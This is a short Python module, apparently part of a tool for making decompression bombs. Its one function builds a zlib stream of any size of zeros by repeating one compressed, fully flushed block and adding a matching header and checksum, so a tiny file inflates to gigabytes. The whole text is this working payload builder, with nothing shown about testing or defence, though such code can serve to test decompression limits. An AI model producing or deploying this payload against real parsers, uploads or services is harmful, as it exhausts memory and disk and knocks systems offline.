"""What bombs are filled with."""
import struct
import zlib


def packed_zeros(size, piece=1 << 20):
    """A zlib stream of so many zeros: pieces of it are alike, so that one is packed once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(size % piece)) + packer.flush()
    return b"\x78\xda" + first * (size // piece) + rest + struct.pack(">I", size % 65521 << 16 | 1)
